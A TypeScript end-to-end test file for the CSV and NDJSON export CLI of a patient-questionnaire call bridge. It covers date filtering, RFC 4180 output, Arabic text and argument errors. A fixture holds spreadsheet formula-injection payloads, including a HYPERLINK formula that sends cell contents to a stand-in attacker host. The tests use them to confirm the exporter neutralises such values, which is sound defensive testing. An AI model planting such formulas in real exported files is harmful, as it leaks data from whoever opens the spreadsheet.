import { spawn } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { createLogger } from '../src/observability/logger';
import { openStore } from '../src/store';
import type { CallSnapshot } from '../src/store';
import { lockDataDir } from '../src/store/data-dir-lock';
import { ROOT } from './helpers/service';

/**
 * `npm run export` end to end: the real CLI as a child process on an embedded DATA_DIR seeded
 * here, read back with parsers that know nothing of the exporter.
 */
const dataDir = mkdtempSync(path.join(tmpdir(), 'export-cli-'));
const outDir = mkdtempSync(path.join(tmpdir(), 'export-out-'));
afterAll(() => {
  rmSync(dataDir, { recursive: true, force: true });
  rmSync(outDir, { recursive: true, force: true });
});

function runExport(args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
  const child = spawn(path.join(ROOT, 'node_modules/.bin/tsx'), [path.join(ROOT, 'src/cli/export.ts'), ...args], {
    cwd: ROOT,
    env: { PATH: process.env.PATH ?? '', DATA_DIR: dataDir },
  });
  let stdout = '';
  let stderr = '';
  child.stdout.setEncoding('utf8').on('data', (d: string) => (stdout += d));
  child.stderr.setEncoding('utf8').on('data', (d: string) => (stderr += d));
  return new Promise((resolve) => child.on('close', (code) => resolve({ code, stdout, stderr })));
}

/** RFC 4180, the reader's side: quoted fields, doubled quotes, CRLF row ends. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) throw new Error('the last row has no CRLF');
  return rows;
}

const HOSTILE = {
  formula: '=HYPERLINK("http://evil.example/?d="&A1,"انقر هنا")',
  plus: '+966500000000',
  at: '@SUM(1+1)',
  minus: '-2+3',
};
const NOTES = 'قال "نعم"، ثم سكت,\r\nوبعدها: لا أعرف';

const before = call({ startedAt: '2025-12-31T23:59:59.000Z', answers: { fever: answer(true, 'إيه') } });
const answered = call({
  startedAt: '2026-01-05T08:00:00.000Z',
  endedAt: '2026-01-05T08:03:00.000Z',
  status: 'escalated',
  patientReference: 'Patient/123',
  answers: {
    notes: answer(NOTES, NOTES),
    chest_pain: answer(true, HOSTILE.formula),
    phone_like: answer('+966500000000', HOSTILE.plus),
    at_sign: answer('x', HOSTILE.at),
    arithmetic: answer(1, HOSTILE.minus),
    weight: { ...answer(-1.25, null), method: 'dtmf' },
  },
  flags: [{ item: 'chest_pain', action: 'emergency', value: true, raisedAt: '2026-01-05T08:00:06.000Z' }],
});
const silent = call({ startedAt: '2026-02-10T08:00:00.000Z', endedAt: '2026-02-10T08:00:20.000Z', status: 'stopped' });
const atUntil = call({ startedAt: '2026-03-01T00:00:00.000Z', answers: { fever: answer(false, 'لا') } });

beforeAll(async () => {
  const store = await openStore({ dataDir, logger: createLogger({ level: 'silent' }) });
  try {
    for (const c of [before, answered, silent, atUntil]) await store.calls.save(c, 'instance-export');
  } finally {
    await store.close();
  }
}, 60_000);

test('ndjson (the default) on stdout: one call per line from --since on, answers and flags, Arabic intact; stderr has counts only', async () => {
  const result = await runExport(['--since', '2026-01-01']);
  expect(result.code).toBe(0);
  const lines = result.stdout.split('\n');
  expect(lines.pop()).toBe('');
  const calls = lines.map((l) => JSON.parse(l) as Record<string, unknown> & { answers: Record<string, Record<string, unknown>> });
  expect(calls.map((c) => c['id'])).toEqual([answered.id, silent.id, atUntil.id]);
  expect(calls[0]).toMatchObject({ providerCallId: answered.providerCallId, patientReference: 'Patient/123', status: 'escalated', answerCount: 6, purgedAt: null, flags: [{ item: 'chest_pain', action: 'emergency', value: true }] });
  expect(calls[0]?.answers['notes']).toEqual({ ...answered.answers['notes'], confirmed: true });
  expect(calls[0]?.answers['chest_pain']?.['transcript']).toBe(HOSTILE.formula); // ndjson is data, not a spreadsheet: as said
  expect(calls[1]).toMatchObject({ status: 'stopped', answerCount: 0, answers: {}, flags: [] });
  expect(result.stderr).toMatch(/^export: 3 calls, 3 lines in \d+ ms\n$/);
}, 60_000);

test('csv to --out: BOM, RFC 4180, one row per answer, --until exclusive, formulas neutralised, numbers and Arabic intact, owner-only file', async () => {
  const file = path.join(outDir, 'calls.csv');
  const result = await runExport(['--since', '2026-01-01', '--until', '2026-03-01', '--format', 'csv', '--out', file]);
  expect(result.code).toBe(0);
  expect(result.stdout).toBe('');
  expect(result.stderr).toMatch(/^export: 2 calls, 7 rows in \d+ ms to /);
  const bytes = readFileSync(file);
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // UTF-8 BOM: Excel then reads Arabic correctly
  expect(statSync(file).mode & 0o777).toBe(0o600);
  const [header, ...rows] = parseCsv(bytes.toString('utf8').slice(1));
  expect(header?.slice(0, 5)).toEqual(['call_id', 'provider', 'provider_call_id', 'patient_reference', 'questionnaire']);
  const records = rows.map((r) => Object.fromEntries(header!.map((name, i) => [name, r[i]])) as Record<string, string>);
  expect(records).toHaveLength(7);
  for (const row of rows) expect(row).toHaveLength(header!.length);
  const byItem = Object.fromEntries(records.filter((r) => r['call_id'] === answered.id).map((r) => [r['item'], r]));
  expect(byItem['notes']?.['transcript']).toBe(NOTES);
  expect(byItem['notes']?.['value']).toBe(JSON.stringify(NOTES));
  expect(byItem['chest_pain']).toMatchObject({ transcript: `'${HOSTILE.formula}`, value: 'true', flags: 'emergency', confirmed: 'true', status: 'escalated', patient_reference: 'Patient/123' });
  expect(byItem['phone_like']).toMatchObject({ transcript: `'${HOSTILE.plus}`, value: '"+966500000000"' });
  expect(byItem['at_sign']?.['transcript']).toBe(`'${HOSTILE.at}`);
  expect(byItem['arithmetic']?.['transcript']).toBe(`'${HOSTILE.minus}`);
  expect(byItem['weight']).toMatchObject({ value: '-1.25', method: 'dtmf', transcript: '', confidence: '0.9', attempts: '1' });
  expect(records.find((r) => r['call_id'] === silent.id)).toMatchObject({ status: 'stopped', item: '', value: '', ended_at: '2026-02-10T08:00:20.000Z' });
  expect(records.some((r) => r['call_id'] === atUntil.id || r['call_id'] === before.id)).toBe(false);
}, 60_000);

test.each([
  [[], '--since is required'],
  [['--since', 'yesterday'], '--since "yesterday" is not a date'],
  [['--since', '2026-02-30'], '--since "2026-02-30" is not a date'],
  [['--since', '2026-01-01', '--until', '2026-01-01'], '--until must be after --since'],
  [['--since', '2026-01-01', '--format', 'xlsx'], '--format must be ndjson or csv, not "xlsx"'],
  [['--since', '2026-01-01', '--columns', 'all'], "Unknown option '--columns'"],
  [['2026-01-01'], 'positional argument'],
])('bad arguments %j: exit 2 with the reason and the usage line', async (args, reason) => {
  const result = await runExport(args);
  expect(result.code).toBe(2);
  expect(result.stdout).toBe('');
  expect(result.stderr).toContain(reason);
  expect(result.stderr).toContain('usage: npm run export -- --since DATE');
}, 30_000);

test('a DATA_DIR held by a running bridge: refused with what to do, nothing written', async () => {
  const lock = await lockDataDir(path.join(dataDir, 'db'), () => undefined);
  try {
    const result = await runExport(['--since', '2026-01-01']);
    expect(result.code).toBe(1);
    expect(result.stdout).toBe('');
    expect(result.stderr).toContain(`DATA_DIR/db is in use by another bridge process (pid ${process.pid})`);
    expect(result.stderr).toContain('stop the bridge (docker compose stop bridge), export, then start it again; or export from a shared Postgres with DATABASE_URL');
  } finally {
    await lock.release();
  }
}, 30_000);

function call(overrides: Partial<CallSnapshot>): CallSnapshot {
  return {
    id: crypto.randomUUID(),
    provider: 'twilio',
    providerCallId: `CA${crypto.randomUUID().replace(/-/g, '')}`,
    questionnaire: 'post-discharge',
    questionnaireVersion: 1,
    status: 'in_progress',
    startedAt: '2026-01-01T00:00:00.000Z',
    endedAt: null,
    answers: {},
    flags: [],
    ...overrides,
  };
}

function answer(value: unknown, transcript: string | null): CallSnapshot['answers'][string] {
  return { value, method: 'voice', transcript, confidence: 0.9, attempts: 1, answeredAt: '2026-01-05T08:00:05.000Z', confirmed: true };
}
